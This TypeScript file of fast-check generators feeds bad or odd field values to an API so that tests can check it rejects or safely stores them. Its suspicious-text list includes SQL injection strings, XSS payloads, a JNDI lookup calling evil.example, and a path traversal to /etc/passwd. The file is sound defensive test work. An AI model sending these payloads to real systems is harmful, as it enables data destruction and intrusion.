import fc from 'fast-check';

// Values a careless or hostile client might send in place of a field. Some are valid text (SQL- or HTML-looking
// names are just names): those must be stored as given; the rest must be refused as bad input, never with a 500.

const nested = (depth: number, leaf: unknown = 'x'): unknown => {
  let v: unknown = leaf;
  for (let i = 0; i < depth; i++) v = i % 2 ? { a: v } : [v];
  return v;
};

export const suspiciousText = fc.constantFrom(
  "'; drop table namnder; --",
  "Robert'); DELETE FROM audit_events WHERE ('1'='1",
  '1 OR 1=1',
  '$$; select pg_sleep(10); $$',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}} ${7*7} #{7*7}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00%27%22',
  'nul\u0000byte',
  '\u0000',
  '\u202eRTL override',
  'zero\u200bwidth',
  'e\u0301\u0301\u0301\u0301',
  '𝕊𝕖𝕣𝕧𝕚𝕔𝕖𝕟ä𝕞𝕟𝕕𝕖𝕟',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\ud800 lone surrogate',
  '   ',
  '',
  '\n\t\r',
);

export const oddUnicode = fc.oneof(fc.string({ unit: 'binary', maxLength: 300 }), fc.string({ unit: 'grapheme', maxLength: 300 }));

export const hugeString = fc.oneof(
  fc.integer({ min: 201, max: 20_000 }).map((n) => 'å'.repeat(n)),
  fc.integer({ min: 100_000, max: 300_000 }).map((n) => 'x'.repeat(n)),
  fc.constant('y'.repeat(2 * 1024 * 1024)), // over the default body limit
);

export const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.anything({ maxDepth: 2 }), { maxLength: 5 }),
  fc.object({ maxDepth: 2 }),
  fc.bigInt({ min: 2n ** 31n, max: 2n ** 70n }).map((n) => Number(n)),
);

export const deepNesting = fc.integer({ min: 5, max: 3000 }).map((d) => nested(d));

/** Any bad or odd value for one field. */
export const badValue = fc.oneof(
  { arbitrary: wrongType, weight: 3 },
  { arbitrary: suspiciousText, weight: 3 },
  { arbitrary: oddUnicode, weight: 2 },
  { arbitrary: hugeString, weight: 1 },
  { arbitrary: deepNesting, weight: 1 },
);
